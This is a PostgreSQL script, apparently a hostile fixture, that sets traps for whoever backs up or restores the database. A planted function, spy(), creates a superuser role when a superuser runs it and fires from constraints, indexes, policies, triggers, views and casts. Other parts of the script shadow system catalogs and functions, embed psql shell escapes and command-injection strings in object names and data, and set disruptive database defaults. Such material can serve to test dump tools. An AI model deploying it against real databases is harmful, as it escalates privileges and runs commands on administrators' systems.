-- What an application plants for whoever backs up or restores its database. Each function says in the server's log who
-- runs it, and takes what it can get.
create function public.spy() returns boolean language plpgsql as $spy$
begin
  raise log 'spy: % as % in %', session_user, current_user, current_database();
  if (select rolsuper from pg_catalog.pg_roles where rolname = session_user) then
    reset session authorization;
    execute 'create role climbed superuser login';
  end if;
  return true;
end
$spy$;
create function public.spy(anyelement) returns boolean language plpgsql immutable as
  'begin return public.spy(); end';
create table public.bait (
  x int check (public.spy(x)),
  derived boolean generated always as (public.spy(x)) stored
);
insert into public.bait values (1), (2);
create index on public.bait (public.spy(x)) where public.spy(x);
create statistics public.bait_statistics on (public.spy(x)), x from public.bait;
create domain public.checked as text check (public.spy(value));
create table public.of_domain (a public.checked, b public.checked[]);
insert into public.of_domain values ('a', array['b']);
create table public.parted (x int) partition by list ((public.spy(x)));
create table public.parted_true partition of public.parted for values in (true);
insert into public.parted values (1);
create table public.hidden (x int);
alter table public.hidden enable row level security, force row level security;
create policy hide on public.hidden using (public.spy(x)) with check (public.spy(x));
insert into public.hidden values (1);
create view public.looked as select public.spy(x), x from public.bait;
create materialized view public.baits as select public.spy(x), x from public.bait;
create table public.ruled (x int);
create rule spied as on insert to public.ruled do also select public.spy(new.x);
create function public.spy_trigger() returns trigger language plpgsql as 'begin perform public.spy(); return new; end';
create trigger spied before insert or update or delete on public.bait for each row execute function public.spy_trigger();
create type public.pair as (a int, b int);
create function public.as_text(public.pair) returns text language plpgsql as 'begin perform public.spy(); return ''pair''; end';
create cast (public.pair as text) with function public.as_text(public.pair) as implicit;
create table public.pairs (p public.pair);
insert into public.pairs values (row(1, 2));

-- Named like what a program means that looks where it should not.
create function public.format(text, variadic text[]) returns text language plpgsql as 'begin perform public.spy(); return $1; end';
create function public.format(text, text, text) returns text language plpgsql as 'begin perform public.spy(); return $1; end';
create function public.to_json(text) returns json language plpgsql as 'begin perform public.spy(); return null; end';
create function public.current_setting(text) returns text language plpgsql as 'begin perform public.spy(); return ''1''; end';
create function public.lo_get(oid, bigint, int) returns bytea language plpgsql as 'begin perform public.spy(); return null; end';
create function public.sha256(text) returns bytea language plpgsql as 'begin perform public.spy(); return null; end';
create function public.never(name, text) returns boolean language plpgsql as 'begin perform public.spy(); return false; end';
create operator public.= (leftarg = name, rightarg = text, function = public.never);
create operator public.!~ (leftarg = name, rightarg = text, function = public.never);
create table public.pg_class (oid oid, relname text, relkind "char", relnamespace oid, relpersistence "char");
create view public.pg_namespace as select public.spy() as nspname, 1::oid as oid;
create view public.pg_database as select 'app'::name as datname, public.spy() as datallowconn;
create view public.pg_roles as select public.spy()::text as rolname;

-- Names and rows that are something else to a shell, to psql or to awk.
create schema "information_schema x";
create table "information_schema x".t as select 1 as a;
do $do$
declare
  home constant text := E'sch\nema\\! echo pwned >/proc/1/fd/2';
  name constant text := E'nl\n\\! echo pwned >/proc/1/fd/2\n';
begin
  execute pg_catalog.format('create schema %I', home);
  execute pg_catalog.format('create table %I.%I (%I text, %I text, %I text, %I text)', home, name, E'co"l\n\\! echo pwned >/proc/1/fd/2',
    '$(echo pwned >/proc/1/fd/2)', '`echo pwned >/proc/1/fd/2`', '''; select public.spy(); --');
  execute pg_catalog.format('insert into %I.%I values (%L, %L, %L, %L)', home, name, E'\\.', E'\\! echo pwned >/proc/1/fd/2', '$(echo pwned >/proc/1/fd/2)',
    E'BEGIN;\n\\.\n\\! echo pwned >/proc/1/fd/2\n\\restrict x\n\\unrestrict x');
  execute pg_catalog.format('comment on table %I.%I is %L', home, name, E'x\n\\! echo pwned >/proc/1/fd/2\n$$; \\unrestrict\n');
  execute pg_catalog.format('create sequence public.%I', E's\t"\n\\! echo pwned >/proc/1/fd/2');
end
$do$;
create table public."\! echo pwned >/proc/1/fd/2" ("\" text default E'\\''\n\\! echo pwned >/proc/1/fd/2\n');
insert into public."\! echo pwned >/proc/1/fd/2" select string_agg(chr(n), '') from generate_series(1, 255) as n;
insert into public."\! echo pwned >/proc/1/fd/2" values (null), (''), (E'\\N'), (E'\t'), (E'a\rb'), ('\\.');
create table public."EVENT TRIGGER - x; 1; 2 3 COMMENT - EXTENSION y" ("table" int);
insert into public."EVENT TRIGGER - x; 1; 2 3 COMMENT - EXTENSION y" values (1);
create table public."äöü漢字🔑äöü漢字🔑äöü漢字🔑äöü漢字" (x int);
create function public.body() returns text language sql as $body$ select E'\\! echo pwned >/proc/1/fd/2' /*
\! echo pwned >/proc/1/fd/2
-- ' " $$ `echo pwned >/proc/1/fd/2` $(echo pwned >/proc/1/fd/2)
*/ $body$;
-- Changes the session that calls it.
create function public.loosen(int) returns boolean language plpgsql as $$
begin
  perform set_config('search_path', 'public, pg_catalog', false),
    set_config('client_min_messages', 'debug1', false);
  return true;
end
$$;
create table public.loose (x int check (public.loosen(x)));
insert into public.loose values (1);
reset all;

-- What a role sets for the sessions of others: some to be read, some to be read wrongly.
-- Longer than any argument of a program can be.
do $$
begin
  execute (select 'alter database app set search_path = public, pg_catalog, ' || string_agg('schema_' || n, ', ') from generate_series(1, 14000) as n);
end
$$;
alter database app set default_transaction_isolation = 'serializable';
alter database app set default_transaction_deferrable = on;
alter database app set default_transaction_read_only = on;
alter database app set local_preload_libraries = 'nowhere';
alter database app set standard_conforming_strings = off;
alter database app set bytea_output = 'escape';
alter database app set array_nulls = off;
alter database app set transform_null_equals = on;
alter database app set idle_in_transaction_session_timeout = '1ms';
alter database app set idle_session_timeout = '1ms';
alter database app set statement_timeout = '1ms';
alter database app set lock_timeout = '1ms';
alter database app set client_encoding = 'LATIN1';
alter database app set row_security = off;
alter database app set datestyle = 'German, DMY';
alter database app set intervalstyle = 'sql_standard';
alter database app set timezone = 'Asia/Kolkata';
alter database app set xmlbinary = 'hex';
alter database app set exit_on_error = on;
alter database app set quote_all_identifiers = on;
alter database app set extra_float_digits = -10;
alter role current_user set search_path = public, pg_catalog;
alter role current_user set default_transaction_read_only = on;
alter role current_user set local_preload_libraries = 'nowhere';
alter role current_user set array_nulls = off;
alter role current_user set transform_null_equals = on;
alter role current_user set client_encoding = 'LATIN1';
alter role current_user set idle_session_timeout = '1ms';
alter role current_user set exit_on_error = on;
-- Nobody but who is let in.
revoke connect, temporary on database app from public;
